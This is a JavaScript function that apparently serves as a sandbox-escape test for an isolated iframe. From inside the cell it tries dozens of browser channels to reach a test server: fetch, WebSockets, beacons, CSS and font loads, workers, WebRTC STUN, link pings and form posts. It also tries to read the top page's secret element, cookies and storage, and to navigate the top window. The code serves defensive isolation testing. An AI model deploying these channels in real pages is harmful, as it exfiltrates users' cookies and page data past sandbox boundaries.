/**
 * Runs in the cell's own window, where no unit ever is: what if one found a way there? It tries everything that a window can.
 * `escape`: the address to reach, and which of the rounds this is; a round may end with a navigation, which nothing survives.
 */
async function seize(escape) {
  const { stranger, round } = escape;
  const ws = stranger.replace("http", "ws");
  const found = {};

  async function attempt(name, action) {
    try {
      const value = await Promise.race([action(name), new Promise((resolve) => setTimeout(resolve, 1500))]);
      found[name] = value ? "done" : "no error";
    } catch (error) {
      found[name] = String(error);
    }
  }
  const at = (name) => `${stranger}/cell-${name}`;
  function add(tag, attributes, parent = document.body) {
    const element = Object.assign(document.createElement(tag), attributes);
    parent.append(element);
    return element;
  }
  const link = (attributes) => void add("link", attributes, document.head);
  function stun(realm, name) {
    const port = new URL(stranger).port;
    const peer = new realm.RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
    peer.createDataChannel(name);
    peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  }
  const realm = () => add("iframe", {}).contentWindow;
  const blob = (text, type = "text/javascript") => URL.createObjectURL(new Blob([text], { type }));

  const quiet = {
    fetch: (name) => void fetch(at(name)).catch(() => 0),
    xhr: (name) => {
      const request = new XMLHttpRequest();
      request.open("GET", at(name));
      request.send();
    },
    websocket: (name) => void new WebSocket(`${ws}/cell-${name}`),
    events: (name) => void new EventSource(at(name)),
    beacon: (name) => void navigator.sendBeacon(at(name)),
    image: (name) => void (new Image().src = at(name)),
    stylesheet: (name) => link({ rel: "stylesheet", href: at(name) }),
    import_rule: (name) => void (add("style", {}).textContent = `@import url(${at(name)})`),
    font: (name) => void new FontFace("escape", `url(${at(name)})`).load().catch(() => 0),
    script: (name) => void add("script", { src: at(name) }),
    import: (name) => void import(at(name)).catch(() => 0),
    modulepreload: (name) => link({ rel: "modulepreload", href: at(name) }),
    preload: (name) => link({ rel: "preload", as: "image", href: at(name) }),
    prefetch: (name) => link({ rel: "prefetch", href: at(name) }),
    video: (name) => void (add("video", { preload: "auto" }).src = at(name)),
    object: (name) => void add("object", { data: at(name), type: "text/html" }),
    embed: (name) => void add("embed", { src: at(name), type: "text/html" }),
    frame: (name) => void add("iframe", { src: at(name) }),
    form: (name) => {
      add("iframe", { name: "inner" });
      add("form", { action: at(name), target: "inner" }).submit();
    },
    ping: (name) => {
      add("iframe", { name: "pinged" });
      add("a", { href: blob("<p>", "text/html"), ping: at(name), target: "pinged" }).click();
    },
    webrtc: (name) => stun(window, name),
    webrtc_nested: (name) => stun(realm(), name),
    fetch_nested: (name) => void realm().fetch(at(name)).catch(() => 0),
    worker_fetch: (name) => void new Worker(blob(`fetch("${at(name)}")`)),
    worker_scripts: (name) => void new Worker(blob(`importScripts("${at(name)}")`)),
    worker_import: (name) => void new Worker(blob(`import("${at(name)}")`)),
    service_worker: () => void navigator.serviceWorker.register("/sw.js").catch(() => 0),
    cookie: () => {
      document.cookie = "escape=1";
      return document.cookie.includes("escape");
    },
    storage: () => {
      localStorage.setItem("escape", "1");
      return localStorage.getItem("escape");
    },
    database: () =>
      new Promise((resolve, reject) => Object.assign(indexedDB.open("escape"), { onsuccess: () => resolve(true), onerror: reject })),
    caches: () => caches.open("escape"),
    files: () => navigator.storage.getDirectory(),
    bridge_document: () => parent.document.body,
    site_document: () => top.document.getElementById("secret").textContent,
    site_cookie: () => top.document.cookie,
    site_storage: () => top.localStorage.getItem("secret"),
    site_handle: () => top.disio.status(),
    broadcast: () => void new BroadcastChannel("escape").postMessage("cell_broadcast"),
    greeting: () => {
      // As the bridge greets its page: an answer would be a port, and the page's wishes.
      const answered = new Promise((resolve) => addEventListener("message", ({ data, ports }) => resolve(data?.type === "start" && ports[0])));
      top.postMessage({ type: "here" }, "*");
      return answered;
    },
  };
  const last = {
    top_location: (name) => void (top.location = at(name)),
    parent_location: (name) => void (parent.location = at(name)),
    top_anchor: (name) => void add("a", { href: at(name), target: "_top" }).click(),
    own_location: (name) => void (location = at(name)),
  };

  if (round === "quiet") await Promise.all(Object.entries(quiet).map(([name, action]) => attempt(name, action)));
  else await attempt(round, last[round]);
  top.postMessage({ escape: true, found, round }, "*");
}
